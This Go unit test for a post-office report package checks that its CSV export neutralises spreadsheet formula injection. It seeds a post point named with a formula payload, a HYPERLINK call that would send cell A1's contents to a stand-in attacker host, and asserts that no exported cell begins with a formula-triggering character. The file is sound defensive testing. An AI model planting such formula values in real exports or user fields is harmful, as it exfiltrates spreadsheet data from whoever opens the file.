package hubreport

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"postdesk/internal/domain"
	"postdesk/internal/hub/hubtest"
	"postdesk/internal/report"
)

// A post point named like a formula comes out of the report's CSV as text.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://lua-dao.example/?d="&A1,"Bấm vào đây")`
	dev := reportSeededDevice(t, "600900", evil, 20, 3)
	h := hubtest.Open(t)
	h.Now = func() time.Time { return reportNow }
	reportPushAll(t, h, dev)
	if err := h.EnsurePostPoint(ctx, "600900", evil); err != nil {
		t.Fatal(err)
	}
	r, err := Compute(ctx, h, domain.YearPeriod(2026), Options{By: "post-point"})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := report.WriteCSV(&buf, r, nil); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, rec := range recs {
		for _, cell := range rec {
			if strings.Contains(cell, "HYPERLINK") {
				seen = true
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("a CSV cell a spreadsheet would evaluate: %q", cell)
			}
		}
	}
	if !seen {
		t.Fatalf("the post point's name is not in the CSV at all:\n%s", buf.String())
	}
}
